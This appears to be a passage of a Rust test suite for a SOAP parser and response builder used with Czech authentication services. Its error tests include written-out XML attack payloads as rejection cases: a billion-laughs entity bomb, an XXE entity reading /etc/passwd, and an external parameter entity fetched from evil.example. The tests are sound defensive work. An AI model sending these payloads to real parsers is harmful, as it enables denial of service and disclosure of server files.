        assert!(!v2_1.contains(&format!("ns2:{absent}")), "v2_1 has {absent}");
    }
    let v3_4 = auth_confirmation_response(V3_4, &AuthStatus::Ok, Some(&attrs), quirks.clone());
    assert!(v3_4.contains("<ns2:Email>"));
    for absent in ["MistoNarozeni", "Doklady", "TypPrihlaseniNia", "IdentifikatorSpuu"] {
        assert!(!v3_4.contains(&format!("ns2:{absent}")), "v3_4 has {absent}");
    }
    let v4_1 = auth_confirmation_response(V4_1, &AuthStatus::Ok, Some(&attrs), quirks.clone());
    assert!(v4_1.contains("<ns2:Doklady>") && !v4_1.contains("TypPrihlaseniNia"));
    let v4_2 = auth_confirmation_response(V4_2, &AuthStatus::Ok, Some(&attrs), quirks);
    assert!(v4_2.contains("<ns2:TypPrihlaseniNia>") && v4_2.contains("<ns2:IdentifikatorSpuu/>"));
    // Values are escaped in text and attributes.
    assert!(v4_2.contains("Lhota &amp; &lt;spol&gt;"));
    assert!(v4_2.contains("nazev=\"Arnoltice &quot;Dolní&quot;\""));
}

#[test]
fn quirk_prefixes_are_used_and_invalid_ones_fall_back() {
    let style = |prefix: Option<&str>, env: &str| {
        ResponseStyle::Quirks(Quirks {
            prefix: prefix.map(str::to_owned),
            envelope_prefix: env.into(),
            ..Quirks::default()
        })
    };
    let xml = auth_confirmation_response(V4_2, &AuthStatus::Ok, None, style(Some("kaas"), "soap"));
    assert!(xml.contains("<soap:Envelope xmlns:soap="));
    assert!(xml.contains("<kaas:authConfirmationResponse xmlns:kaas=\"http://agw-as.cz/ats-ws/atsSzr/v4_2\">"));
    let xml = auth_confirmation_response(V4_2, &AuthStatus::Ok, None, style(None, ""));
    assert!(xml.contains("<Envelope xmlns=\"http://schemas.xmlsoap.org/soap/envelope/\">"));
    assert!(xml.contains("<authConfirmationResponse xmlns=\"http://agw-as.cz/ats-ws/atsSzr/v4_2\">"));
    let xml = auth_confirmation_response(V4_2, &AuthStatus::Ok, None, style(Some("a b\"<"), "xmlx"));
    assert!(xml.contains("<ns2:authConfirmationResponse") && xml.contains("<soapenv:Envelope"));
    assert!(parse_auth_confirmation_response(xml.as_bytes(), V4_2).is_ok());
}

#[test]
fn heart_beat_round_trip() {
    for version in ServiceVersion::ALL {
        for (ok, code, message) in
            [(true, None, None), (false, Some("42"), Some("Služba není dostupná <údržba>")), (false, None, None)]
        {
            let xml = heart_beat_response(version, ok, code, message);
            assert_eq!(
                parse_heart_beat_response(xml.as_bytes(), version),
                Ok(HeartBeat { ok, code: code.map(str::to_owned), message: message.map(str::to_owned) })
            );
        }
    }
}

#[test]
fn direct_v2_1_builder_yields_fault() {
    let xml = direct_auth_user_response(V2_1, DirectNamespace::AtsUser, &AuthStatus::Ok, None, ResponseStyle::Strict);
    assert!(matches!(
        parse_direct_auth_user_response(xml.as_bytes(), V3_4, DirectNamespace::AtsUser),
        Err(SoapError::Fault { .. })
    ));
}

// ---------------------------------------------------------------------------
// Lenient parsing
// ---------------------------------------------------------------------------

fn caais_envelope(payload: &str) -> String {
    format!(
        "<SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\"><SOAP-ENV:Body>{payload}</SOAP-ENV:Body></SOAP-ENV:Envelope>"
    )
}

fn parse_v4_2(payload: &str) -> Result<AuthConfirmation, SoapError> {
    parse_auth_confirmation_response(caais_envelope(payload).as_bytes(), V4_2)
}

const NS42: &str = "http://agw-as.cz/ats-ws/atsSzr/v4_2";

#[test]
fn default_namespace_and_unqualified_children() {
    let default_ns = format!(
        "<authConfirmationResponse xmlns=\"{NS42}\"><attributes><Username>jnovak</Username></attributes><status>OK</status></authConfirmationResponse>"
    );
    let unqualified = format!(
        "<p:authConfirmationResponse xmlns:p=\"{NS42}\"><status>OK</status><attributes><Username>jnovak</Username></attributes></p:authConfirmationResponse>"
    );
    for payload in [default_ns, unqualified] {
        let resp = parse_v4_2(&payload).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(resp.status, AuthStatus::Ok);
        assert_eq!(attrs_of(&resp).username, s("jnovak"));
    }
}

#[test]
fn foreign_namespace_children_and_unknown_elements_are_ignored() {
    let payload = format!(
        "<ns2:authConfirmationResponse xmlns:ns2=\"{NS42}\" xmlns:x=\"urn:evil\">\
<x:status>SESSION_NOT_FOUND</x:status><ns2:status>OK</ns2:status><ns2:Future>1</ns2:Future>\
<ns2:attributes><x:Username>admin</x:Username><ns2:Username>jnovak</ns2:Username>\
<ns2:PristupoveRole><x:role>ADMIN</x:role><ns2:role>USER</ns2:role><ns2:role/></ns2:PristupoveRole>\
<ns2:NewThing><ns2:Username>nested</ns2:Username></ns2:NewThing>\
</ns2:attributes></ns2:authConfirmationResponse>"
    );
    let resp = parse_v4_2(&payload).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(resp.status, AuthStatus::Ok);
    let a = attrs_of(&resp);
    assert_eq!(a.username, s("jnovak"));
    assert_eq!(a.pristupove_role, roles(&["USER"]));
}

#[test]
fn booleans_are_lenient() {
    let cases = [
        ("true", Some(true)),
        ("TRUE", Some(true)),
        ("True", Some(true)),
        ("1", Some(true)),
        (" false ", Some(false)),
        ("FALSE", Some(false)),
        ("0", Some(false)),
        ("", None),
        ("yes", None),
    ];
    for (text, expected) in cases {
        let payload = format!(
            "<ns2:authConfirmationResponse xmlns:ns2=\"{NS42}\"><ns2:status>OK</ns2:status><ns2:attributes>\
<ns2:OvmPrimarni>{text}</ns2:OvmPrimarni><ns2:OsobaZtotoznena>{text}</ns2:OsobaZtotoznena>\
<ns2:NeevidovatOsobniUdaje>{text}</ns2:NeevidovatOsobniUdaje>\
<ns2:MistoNarozeni><ns2:MistoNarozeniCr mop=\"{text}\">1</ns2:MistoNarozeniCr></ns2:MistoNarozeni>\
</ns2:attributes></ns2:authConfirmationResponse>"
        );
        let resp = parse_v4_2(&payload).unwrap_or_else(|e| panic!("{e}"));
        let a = attrs_of(&resp);
        assert_eq!(a.ovm_primarni, expected, "{text:?}");
        assert_eq!(a.osoba_ztotoznena, expected, "{text:?}");
        assert_eq!(a.neevidovat_osobni_udaje, expected, "{text:?}");
        let mop = a.misto_narozeni.clone().and_then(|m| m.cr).and_then(|c| c.mop);
        assert_eq!(mop, expected, "{text:?}");
    }
}

#[test]
fn text_references_cdata_and_whitespace() {
    let payload = format!(
        "<ns2:authConfirmationResponse xmlns:ns2=\"{NS42}\"><ns2:status>\n OK \n</ns2:status><ns2:attributes>\
<ns2:Jmeno>J&#225;n &amp; <![CDATA[<Petr>]]> &#x10C;</ns2:Jmeno><ns2:Username>\n   jnovak\t</ns2:Username>\
<!-- comment --><?pi ignored?><ns2:Prijmeni>&#160;Nov&#xE1;k</ns2:Prijmeni>\
</ns2:attributes></ns2:authConfirmationResponse>"
    );
    let resp = parse_v4_2(&payload).unwrap_or_else(|e| panic!("{e}"));
    let a = attrs_of(&resp);
    assert_eq!(a.jmeno, s("Ján & <Petr> Č"));
    assert_eq!(a.username, s("jnovak"));
    assert_eq!(a.prijmeni, s("\u{a0}Novák"), "NBSP is data, not XML whitespace");
}

#[test]
fn user_id_decoding() {
    let cases = [
        // 16 raw bytes (KAAS / XSD).
        ("E5TVdDM2zEXfkxOU1XQzNg==", "1394d574-3336-cc45-df93-1394d5743336"),
        ("E5TVdDM2zEXfkxOU1XQzNg", "1394d574-3336-cc45-df93-1394d5743336"),
        ("E5TVdDM2 zEXfkxOU1XQzNg==", "1394d574-3336-cc45-df93-1394d5743336"),
        // 36-char UUID text (CAAIS), upper case normalised.
        ("MTZiMzM2NzAtYTgxNi00YzFhLTg3MTItZDk5ZTlmZjg1ZmVj", UUID),
        ("MTZCMzM2NzAtQTgxNi00QzFBLTg3MTItRDk5RTlGRjg1RkVD", UUID),
        // Anything else stays raw.
        ("not base64!", "not base64!"),
        ("AAAA", "AAAA"),
        // 36 bytes that are not UUID text.
        ("eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4", "eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4"),
    ];
    for (raw, expected) in cases {
        assert_eq!(decode_user_id(raw), expected, "{raw}");
    }
    assert_eq!(parse_uuid("16b33670-a816-4c1a-8712-d99e9ff85feg"), None);
    assert_eq!(parse_uuid("16b33670a8164c1a8712d99e9ff85fec0000"), None);
    assert_eq!(parse_uuid(UUID).map(|b| format_uuid(&b)), Some(UUID.to_owned()));
}

#[test]
fn agenda_roles_and_documents_edge_cases() {
    let payload = format!(
        "<ns2:authConfirmationResponse xmlns:ns2=\"{NS42}\"><ns2:status>OK</ns2:status><ns2:attributes>\
<ns2:CinnostniRole><ns2:Agenda><ns2:KodAgendy>A1</ns2:KodAgendy><ns2:KodCinnostniRole>R1</ns2:KodCinnostniRole>\
<ns2:KodCinnostniRole>R2</ns2:KodCinnostniRole></ns2:Agenda><ns2:Agenda><ns2:KodCinnostniRole>orphan</ns2:KodCinnostniRole></ns2:Agenda>\
</ns2:CinnostniRole><ns2:Doklady><ns2:Doklad typ=\"P\"/><ns2:Doklad typ=\"ID\" stav=\"divny\">1</ns2:Doklad></ns2:Doklady>\
<ns2:DatumUmrti stav=\"spravny\"/><ns2:Pracoviste><ns2:Id/></ns2:Pracoviste>\
</ns2:attributes></ns2:authConfirmationResponse>"
    );
    let resp = parse_v4_2(&payload).unwrap_or_else(|e| panic!("{e}"));
    let a = attrs_of(&resp);
    assert_eq!(a.cinnostni_role, vec![agenda("A1", &["R1", "R2"])]);
    assert_eq!(
        a.doklady,
        vec![Doklad { cislo: "1".into(), typ: s("ID"), stav: Some(StavUdaje::Other("divny".into())) }]
    );
    assert_eq!(a.datum_umrti, None);
    assert_eq!(a.pracoviste, None);
}

// ---------------------------------------------------------------------------
// Errors
// ---------------------------------------------------------------------------

#[test]
fn error_cases_map_to_specific_variants() {
    let ok_payload = format!(
        "<ns2:authConfirmationResponse xmlns:ns2=\"{NS42}\"><ns2:status>OK</ns2:status></ns2:authConfirmationResponse>"
    );
    let billion_laughs = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n \
<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n \
<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n]>\n"
        .to_owned()
        + &caais_envelope(&ok_payload.replace(">OK<", ">&lol3;<"));
    let xxe = "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n".to_owned()
        + &caais_envelope(&ok_payload.replace(">OK<", ">&xxe;<"));
    let param_entity = "<!DOCTYPE foo [ <!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p; ]>".to_owned()
        + &caais_envelope(&ok_payload);
    let undeclared_entity = caais_envelope(&ok_payload.replace(">OK<", ">&xxe;<"));
    let entity_in_attribute = caais_envelope(&format!(
        "<ns2:authConfirmationResponse xmlns:ns2=\"{NS42}\"><ns2:status>OK</ns2:status><ns2:attributes>\
<ns2:DatumNarozeni stav=\"&xxe;\">2000-01-01</ns2:DatumNarozeni></ns2:attributes></ns2:authConfirmationResponse>"
    ));
    let fault = caais_envelope(
        "<SOAP-ENV:Fault><faultcode>SOAP-ENV:Server</faultcode><faultstring>Internal error</faultstring></SOAP-ENV:Fault>",
    );
    let soap12 = format!(
        "<env:Envelope xmlns:env=\"http://www.w3.org/2003/05/soap-envelope\"><env:Body>{ok_payload}</env:Body></env:Envelope>"
    );
    let deep = caais_envelope(&format!(
        "<ns2:authConfirmationResponse xmlns:ns2=\"{NS42}\"><ns2:status>OK</ns2:status>{}{}</ns2:authConfirmationResponse>",
        "<a>".repeat(100),
        "</a>".repeat(100)
    ));
    let v4_1_response = caais_envelope(&ok_payload.replace("v4_2", "v4_1"));
    let unqualified_wrapper =
        caais_envelope("<authConfirmationResponse><status>OK</status></authConfirmationResponse>");

    let cases: Vec<(&str, String, SoapError)> = vec![
        ("empty input", String::new(), SoapError::NotSoapEnvelope),
        (
            "CAAIS 401 JSON",
            r#"{"timestamp":"2025-08-23T18:04:45.910+00:00","status":401,"error":"Unauthorized","path":"/asws/atsEndpoint"}"#.into(),
            SoapError::NotSoapEnvelope,
        ),
        (
            "HTML error page",
            "<html><head><title>502</title></head><body><br></body></html>".into(),
            SoapError::NotSoapEnvelope,
        ),
        ("SOAP 1.2", soap12, SoapError::NotSoapEnvelope),
        (
            "envelope without body",
            "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Header/></s:Envelope>".into(),
            SoapError::NotSoapEnvelope,
        ),
        ("empty body", caais_envelope("  "), SoapError::EmptyBody),
        ("billion laughs", billion_laughs, SoapError::Dtd),
        ("external entity", xxe, SoapError::Dtd),
        ("parameter entity", param_entity, SoapError::Dtd),
        ("undeclared entity", undeclared_entity, SoapError::Dtd),
        ("entity in attribute", entity_in_attribute, SoapError::Dtd),
        (
            "SOAP fault",
            fault,
            SoapError::Fault {
                code: "SOAP-ENV:Server".into(),
                string: "Internal error".into(),
            },
        ),
        (
            "wrong version namespace",
            v4_1_response,
            SoapError::WrongNamespace {
                expected: NS42.into(),
                found: "http://agw-as.cz/ats-ws/atsSzr/v4_1".into(),
            },
        ),
        (
            "unqualified wrapper",
            unqualified_wrapper,
            SoapError::WrongNamespace {
                expected: NS42.into(),
                found: String::new(),
            },
        ),
        (
            "other operation",
            caais_envelope(&format!(
                "<ns2:heartBeatResponse xmlns:ns2=\"{NS42}\"><ns2:status>OK</ns2:status></ns2:heartBeatResponse>"
            )),
            SoapError::UnexpectedElement {
                expected: "authConfirmationResponse",
                found: "heartBeatResponse".into(),
            },
        ),
        (
            "missing status",
            caais_envelope(&format!(
                "<ns2:authConfirmationResponse xmlns:ns2=\"{NS42}\"><ns2:attributes/></ns2:authConfirmationResponse>"
            )),
            SoapError::MissingStatus,
        ),
        (
            "empty status",
            caais_envelope(&ok_payload.replace(">OK<", "> <")),
            SoapError::MissingStatus,
        ),
        (
            "duplicate status",
            caais_envelope(&ok_payload.replace(
                "<ns2:status>OK</ns2:status>",
                "<ns2:status>SESSION_NOT_FOUND</ns2:status><ns2:status>OK</ns2:status>",
            )),
            SoapError::Malformed("duplicate status element".into()),
        ),
        (
            "too deep",
            deep,
            SoapError::Malformed("document too deep or too large".into()),
        ),
        (
            "too large",
            caais_envelope(&ok_payload) + &" ".repeat(MAX_RESPONSE_BYTES),
            SoapError::TooLarge {
                limit: MAX_RESPONSE_BYTES,
            },
        ),
    ];
    for (label, xml, expected) in cases {
        assert_eq!(parse_auth_confirmation_response(xml.as_bytes(), V4_2), Err(expected), "{label}");
    }
}

#[test]
fn malformed_inputs_are_malformed() {
    let cases = [
        ("mismatched end tag", caais_envelope("<a></b>")),
        ("undeclared prefix", caais_envelope("<x:a/>")),
        ("bad char reference", caais_envelope("<a>&#0;</a>")),
        ("dangling ampersand", caais_envelope("<a>a & b</a>")),
        ("duplicate attribute", caais_envelope("<a b=\"1\" b=\"2\"/>")),
        ("second root", caais_envelope("") + "<x/>"),
        ("invalid UTF-8", "\u{0}".to_owned()),
    ];
    for (label, xml) in cases {
        let mut bytes = xml.into_bytes();
        if label == "invalid UTF-8" {
            bytes =
                caais_envelope("<ns2:authConfirmationResponse xmlns:ns2=\"x\">\u{1}</ns2:authConfirmationResponse>")
                    .into_bytes();
            let at = bytes.iter().position(|&b| b == 1).unwrap_or(0);
            bytes[at] = 0xff;
        }
        let result = parse_auth_confirmation_response(&bytes, V4_2);
        assert!(matches!(result, Err(SoapError::Malformed(_))), "{label}: {result:?}");
    }
}

#[test]
fn truncated_input_never_panics_and_is_malformed() {
    let xml = fixture!("kaas_auth_v4_1_auth_confirmation_response.xml");
    let root_end = xml.find("<SOAP-ENV:Header/>").unwrap_or(0);
    let closing = "</SOAP-ENV:Envelope>";
    let end = xml.rfind(closing).map_or(xml.len(), |i| i + closing.len());
    for cut in 0..end {
        if !xml.is_char_boundary(cut) {
            continue;
        }
        let result = parse_auth_confirmation_response(&xml.as_bytes()[..cut], V4_1);
        assert!(result.is_err(), "cut at {cut} parsed");
        if cut >= root_end && cut < end {
            assert!(matches!(result, Err(SoapError::Malformed(_))), "cut at {cut}: {result:?}");
        }
    }
    // Cuts inside a multi-byte character are invalid UTF-8 (or truncated).
    let cut = xml.find("Městský").unwrap_or(0) + 2;
    assert!(matches!(parse_auth_confirmation_response(&xml.as_bytes()[..cut], V4_1), Err(SoapError::Malformed(_))));
}

#[test]
fn huge_input_is_refused_before_parsing() {
    let huge = vec![b'<'; MAX_RESPONSE_BYTES + 1];
    let expected = Err(SoapError::TooLarge { limit: MAX_RESPONSE_BYTES });
    assert_eq!(parse_auth_confirmation_response(&huge, V4_2), expected);
    assert_eq!(parse_heart_beat_response(&huge, V4_2), Err(SoapError::TooLarge { limit: MAX_RESPONSE_BYTES }));
    assert_eq!(parse_direct_auth_user_response(&huge, V4_2, DirectNamespace::AtsUser), expected);
    assert!(matches!(parse_request(&huge), Err(SoapError::TooLarge { .. })));
}

#[test]
fn errors_never_echo_document_text() {
    let secret = "SECRET-00-c679c0687f2d43ebbcd766876f90da66";
    let inputs = [
        caais_envelope(&format!("<a>{secret}&bogus;</a>")),
        caais_envelope(&format!("<a>{secret}&#0;</a>")),
        caais_envelope(&format!("<a>{secret} & </a>")),
        caais_envelope(&format!("<a b=\"{secret}&#0;\"/>")),
        caais_envelope(&format!("<a b=\"{secret}&bogus;\"/>")),
        caais_envelope(&format!("<a>{secret}</b>")),
        format!("<!DOCTYPE x [<!ENTITY e \"{secret}\">]>"),
        format!("{secret}<x"),
    ];
    for xml in inputs {
        let err = parse_auth_confirmation_response(xml.as_bytes(), V4_2).err().unwrap_or(SoapError::MissingStatus);
        assert!(!err.to_string().contains("SECRET"), "{err}");
        assert!(!format!("{err:?}").contains("SECRET"), "{err:?}");
    }
    // Direct request errors never contain the credentials either.
    let err = parse_request(
        b"<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>\
<m:directAuthUserRequest xmlns:m=\"http://agw-as.cz/ats-ws/atsUser/v4_2\"><m:password>SECRET</m:password>\
</m:directAuthUserRequest></s:Body></s:Envelope>",
    );
    assert!(matches!(&err, Err(SoapError::Malformed(m)) if !m.contains("SECRET")), "{err:?}");
}

#[test]
fn fault_text_is_truncated() {
    let long = "x".repeat(10_000);
    let xml = soap_fault_response("SOAP-ENV:Client", &long);
    match parse_heart_beat_response(xml.as_bytes(), V4_2) {
        Err(SoapError::Fault { code, string }) => {
            assert_eq!(code, "SOAP-ENV:Client");
            assert!(string.chars().count() <= MAX_ERROR_TEXT + 1);
        }
        other => panic!("{other:?}"),
    }
}

// ---------------------------------------------------------------------------
// XSD validation with xmllint
// ---------------------------------------------------------------------------

/// Directory with the schemas extracted from the WSDLs.
fn xsd_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("src/provider/kaas/testdata/xsd")
}

/// The first element child of `Envelope/Body`, as a standalone document.
///
/// Every builder declares the payload namespace on the payload element
/// itself, so the cut-out is namespace-complete.
fn extract_body_child(envelope: &str) -> String {
    use quick_xml::events::Event as E;
    let mut reader = quick_xml::Reader::from_str(envelope);
    let mut depth = 0usize;
    let mut start: Option<usize> = None;
    loop {
        let before = usize::try_from(reader.buffer_position()).unwrap_or(0);
        match reader.read_event() {
            Ok(E::Start(e)) => {
                if depth == 2 && start.is_none() {
                    start = Some(before);
                }
                let _ = e;
                depth += 1;
            }
            Ok(E::Empty(_)) if depth == 2 && start.is_none() => {
                let end = usize::try_from(reader.buffer_position()).unwrap_or(0);
                return format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{}\n", &envelope[before..end]);
            }
            Ok(E::End(_)) => {
                depth -= 1;
                if depth == 2 {
                    if let Some(from) = start {
                        let end = usize::try_from(reader.buffer_position()).unwrap_or(0);
                        return format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{}\n", &envelope[from..end]);
                    }
                }
            }
            Ok(E::Eof) => panic!("no body child in {envelope}"),
            Ok(_) => {}
            Err(e) => panic!("{e}: {envelope}"),
        }
    }
}

struct Validator {
    dir: PathBuf,
    counter: usize,
}

impl Validator {
    fn new() -> Self {
        let dir = std::env::temp_dir().join(format!("kaas-soap-xsd-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
        Validator { dir, counter: 0 }
    }

    /// Schema path for `file`; for the KAAS-document direct namespace the
    /// WSDL's `targetNamespace` is rewritten into a temporary copy.
    fn schema(&self, file: &str, ns: Option<DirectNamespace>) -> PathBuf {
        let original = xsd_dir().join(file);
        if ns != Some(DirectNamespace::AtsUser) {
            return original;
        }
        let text = std::fs::read_to_string(&original).unwrap_or_else(|e| panic!("{e}"));
        let rewritten = text.replace("http://agw-as.cz/ats-ws/atsUser/atsSzr/", "http://agw-as.cz/ats-ws/atsUser/");
        let path = self.dir.join(format!("atsUser-{file}"));
        std::fs::write(&path, rewritten).unwrap_or_else(|e| panic!("{e}"));
        path
    }

    /// Runs `xmllint --noout --schema` on the body child of `envelope`.
    fn validate(&mut self, label: &str, schema: &Path, envelope: &str) -> Result<(), String> {
        self.counter += 1;
        let doc = self.dir.join(format!("doc-{}.xml", self.counter));
        std::fs::write(&doc, extract_body_child(envelope)).unwrap_or_else(|e| panic!("{e}"));
        let out = Command::new("xmllint")
            .arg("--noout")
            .arg("--schema")
            .arg(schema)
            .arg(&doc)
            .output()
            .unwrap_or_else(|e| panic!("{e}"));
        if out.status.success() {
            Ok(())
        } else {
            Err(format!("{label}: {}\n{envelope}", String::from_utf8_lossy(&out.stderr)))
        }
    }
}

impl Drop for Validator {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn xmllint_available() -> bool {
    Command::new("xmllint").arg("--version").output().is_ok_and(|o| o.status.success())
}

/// Validates, with `xmllint --schema`, the body element of every request
/// the builders produce and of every `Strict` response, against the schema
/// extracted verbatim from the matching WSDL (`testdata/xsd/*.xsd`).
/// Also checks that a deliberately invalid document is rejected, so that
/// the test cannot pass vacuously.
#[test]
fn builders_validate_against_wsdl_xsd() {
    if !xmllint_available() {
        // `tools/test` installs the interop peers and sets this: there a skip is a failure.
        assert!(
            std::env::var_os("AISGATE_REQUIRE_PEERS").is_none(),
            "xmllint is required (apt-get install libxml2-utils)"
        );
        eprintln!("skipping XSD validation: xmllint not found (apt-get install libxml2-utils)");
        return;
    }
    let mut v = Validator::new();
    let mut failures = Vec::new();
    let attrs = valid_attributes();
    let mut check = |v: &mut Validator, label: String, schema: PathBuf, xml: String| {
        if let Err(e) = v.validate(&label, &schema, &xml) {
            failures.push(e);
        }
    };
    for version in ServiceVersion::ALL {
        let schema = v.schema(&format!("GetCredential_{version}.xsd"), None);
        check(&mut v, format!("heartBeat request {version}"), schema.clone(), heart_beat_request(version));
        for sid in [KAAS_SESSION_ID, CAAIS_SESSION_ID] {
            check(
                &mut v,
                format!("authConfirmation request {version}"),
                schema.clone(),
                auth_confirmation_request(version, sid),
            );
        }
        for (ok, code, message) in [(true, None, None), (false, Some("1"), Some("Nedostupné"))] {
            check(
                &mut v,
                format!("heartBeat response {version}"),
                schema.clone(),
                heart_beat_response(version, ok, code, message),
            );
        }
        for (status, a) in
            [(AuthStatus::Ok, Some(&attrs)), (AuthStatus::SessionNotFound, None), (AuthStatus::SystemError, None)]
        {
            check(
                &mut v,
                format!("authConfirmation response {version} {status:?}"),
                schema.clone(),
                auth_confirmation_response(version, &status, a, ResponseStyle::Strict),
            );
        }
        if version == V2_1 {
            continue;
        }
        for ns in DirectNamespace::ALL {
            let schema = v.schema(&format!("DirectAuth_{version}.xsd"), Some(ns));
            let request =
                direct_auth_user_request(version, ns, "k3qrto7u", "No.df5sc+6zrv<&>").unwrap_or_else(|e| panic!("{e}"));
            check(&mut v, format!("directAuthUser request {version} {ns}"), schema.clone(), request);
            for (status, a) in [
                (AuthStatus::Ok, Some(&attrs)),
                (AuthStatus::VerificationFailed, None),
                (AuthStatus::SystemError, None),
            ] {
                check(
                    &mut v,
                    format!("directAuthUser response {version} {ns} {status:?}"),
                    schema.clone(),
                    direct_auth_user_response(version, ns, &status, a, ResponseStyle::Strict),
                );
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));

    // Negative controls: the validator must catch XSD violations.
    let schema = v.schema("GetCredential_v4_2.xsd", None);
    let bad_type = KaasAttributes { typ_instituce: Some(101), ..attrs.clone() };
    let bad = auth_confirmation_response(V4_2, &AuthStatus::Ok, Some(&bad_type), ResponseStyle::Strict);
    assert!(v.validate("TypInstituce 101", &schema, &bad).is_err());
    let quirky = auth_confirmation_response(
        V4_2,
        &AuthStatus::Ok,
        Some(&attrs),
        ResponseStyle::Quirks(Quirks { attributes_before_status: true, ..Quirks::default() }),
    );
    assert!(v.validate("attributes before status", &schema, &quirky).is_err());
}
